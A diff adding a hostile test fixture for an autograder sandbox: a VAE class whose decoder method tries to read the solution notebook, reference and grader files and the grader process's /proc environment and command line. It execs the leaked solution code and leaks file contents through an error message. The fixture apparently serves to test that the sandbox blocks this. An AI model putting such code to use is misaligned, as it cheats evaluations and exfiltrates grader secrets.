@@ -1,0 +1,80 @@
+# attack: reads the solution notebook, Part 2's graders and reference, the grader's command line and environment, to copy the solution's decoder (and to leak them in its error message)
+# stopped by: the kit's folder is hidden (mount namespace) and unreadable to the sandbox uid; /proc shows only the child's own processes; the grader is not dumpable
+# groups: decoder,encoder
+# zero: decoder
+# full: encoder
+# message: decoder raised PermissionError|decoder raised FileNotFoundError
+# needs: root
+# Hostile fixture of tests/test_hostile.py, Part 2 (graded with --assignment vae2d): every loop, allocation,
+# fork and sleep in it is bounded. @KIT@, @RESULTS@, @SENTINEL@ and @PORT@ are filled in by the test before grading.
+class VAE2D(nn.Module):
+    def __init__(self, obs_dim=784, hidden_dim=512, latent_dim=2):
+        super().__init__()
+        self.latent_dim = latent_dim
+        self.linear1 = nn.Linear(obs_dim, hidden_dim)
+        self.linear21 = nn.Linear(hidden_dim, latent_dim)
+        self.linear22 = nn.Linear(hidden_dim, latent_dim)
+        self.linear3 = nn.Linear(latent_dim, hidden_dim)
+        self.linear4 = nn.Linear(hidden_dim, obs_dim)
+
+    def encoder(self, x):
+        hidden = F.relu(self.linear1(x))
+        return self.linear21(hidden), self.linear22(hidden)
+
+    def reparameterize(self, mu, logvar):
+        epsilon = torch.randn_like(mu)
+        return mu + torch.exp(0.5 * logvar) * epsilon
+
+    def decoder(self, z):
+        os = __import__("os")
+        json = __import__("json")
+        leaked, errors = [], []
+        paths = ["@KIT@/solution/vae2d.ipynb", "@KIT@/autograder/assignments/vae2d/reference.py",
+                 "@KIT@/autograder/assignments/vae2d/graders/grade_decoder.py",
+                 f"/proc/{os.getppid()}/cmdline", f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/maps"]
+        for path in paths:
+            try:
+                with open(path) as f:
+                    leaked.append(f.read())
+            except OSError as exc:
+                errors.append(exc)
+        for text in leaked:
+            cells = [c["source"] for c in json.loads(text)["cells"]] if '"cell_type"' in text else [text]
+            for cell in cells:
+                if "class VAE2D" in "".join(cell):  # the solution notebook or the reference: run their decoder
+                    namespace = dict(globals())
+                    exec("".join(cell), namespace)
+                    return namespace["VAE2D"].decoder(self, z)
+        if leaked:
+            raise ValueError("\n".join(leaked)[:1900])
+        raise errors[0]
+
+    def loss(self, x, beta):
+        mu, logvar = self.encoder(x)
+        theta = self.decoder(self.reparameterize(mu, logvar))
+        reconstruction = F.binary_cross_entropy(theta, x, reduction="none").sum(dim=-1)
+        kl = 0.5 * (torch.exp(logvar) + mu ** 2 - 1 - logvar).sum(dim=-1)
+        return reconstruction + beta * kl
+
+    def reconstruct(self, x):
+        mu, _ = self.encoder(x)
+        return self.decoder(mu)
+
+    def latent_grid(self, n, z_min, z_max):
+        values = torch.linspace(z_min, z_max, n, device=self.linear3.weight.device)
+        z2, z1 = torch.meshgrid(values.flip(0), values, indexing="ij")
+        return self.decoder(torch.stack([z1.reshape(-1), z2.reshape(-1)], dim=-1))
+
+    def interpolate(self, x_a, x_b, steps=7):
+        mu, _ = self.encoder(torch.stack([x_a, x_b]))
+        t = torch.arange(1, steps + 1, device=mu.device, dtype=mu.dtype).unsqueeze(-1) / (steps + 1)
+        return torch.cat([x_a.unsqueeze(0), self.decoder((1 - t) * mu[0] + t * mu[1]), x_b.unsqueeze(0)])
+
+    @staticmethod
+    def pick_pairs(labels, same, seed):
+        generator, labels = torch.Generator().manual_seed(seed), labels.cpu()
+        if same:
+            return torch.stack([torch.multinomial((labels == d).float(), 2, generator=generator) for d in range(10)])
+        firsts = torch.randperm(len(labels), generator=generator)[:10]
+        seconds = [torch.multinomial((labels != labels[a]).float(), 1, generator=generator) for a in firsts]
+        return torch.stack([firsts, torch.cat(seconds)], dim=1)
